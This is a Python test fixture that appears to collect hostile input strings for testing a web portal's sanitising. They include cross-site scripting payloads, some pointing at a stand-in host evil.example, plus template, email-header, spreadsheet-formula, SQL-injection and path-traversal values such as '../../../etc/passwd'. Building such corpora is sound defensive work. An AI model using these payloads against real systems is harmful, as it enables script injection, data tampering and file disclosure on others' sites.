"""Text that tries to be more than text."""

import json
import os
from pathlib import Path

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)><embed src=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<b style=position:fixed>x</b>",
)
ESCAPES = (
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<\u200bscript>alert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load x %}",
    "%s %(name)s %d",
    "{0} {name} {}",
    "${7*7}",
    "#{7*7}",
    "\\u003cscript\\u003e",
)
LINKS = (
    "[pulse](javascript:alert(1))",
    "[pulse](JaVaScRiPt:alert(1))",
    "[pulse](\tjavascript:alert(1))",
    "[pulse](data:text/html;base64,PHNjcmlwdD4=)",
    "[pulse](vbscript:msgbox)",
    '[pulse](https://ok.example/" onclick="alert(1))',
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)",
    "javascript:alert(1)",
)
HEADERS = (
    "Hola\r\nBcc: boss@victim.example",
    "Hola\nTo: boss@victim.example\n\nCuerpo",
    "Hola\r\n\r\n<script>alert(1)</script>",
    "Hola\u2028Bcc: boss@victim.example",
    "Hola\x85Bcc: boss@victim.example",
    "Evil, boss@victim.example",
    "Evil <boss@victim.example>",
    '"Evil" <boss@victim.example>, Otro',
    "boss@victim.example>, <otro@victim.example",
    "=?utf-8?q?=0ABcc:_boss@victim.example?=",
    "=?utf-8?b?SG9sYQ==?=",
    "(comentario) Ana; Eva: Iker",
)
NAMES = (
    "../../../etc/passwd", "..\\..\\windows\\system32\\x.txt", "captura\u202etxt.exe.png", "con\u200bcero",
    "nombre. ", ".oculto", "=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(1)", "' OR '1'='1",
    "1; DROP TABLE tickets_ticket; --", "NULL", "undefined", "Ñandú café", "e\u0301", "ﷺ", "🧑‍🚀🏳️‍🌈", "עברית عربى",
    "Z̸̡͍a̷l̵g̶o", "\u00ad\u2066x\u2069", "a" * 60,
)  # fmt: skip
OWN = (*SCRIPTS, *ESCAPES, *TEMPLATES, *LINKS, *HEADERS, *NAMES)


def every() -> list[str]:
    """Our own, and those of PORTAL_REAL_DATA where it is set."""
    folder = os.environ.get("PORTAL_REAL_DATA")
    if not folder:
        return list(OWN)
    files = sorted((Path(folder) / "texto_hostil" / "dev").glob("*.jsonl"))
    rows = [json.loads(line) for file in files for line in file.read_text().split("\n") if line]
    return [*OWN, *(row.get("text") or row["payload"] for row in rows)]
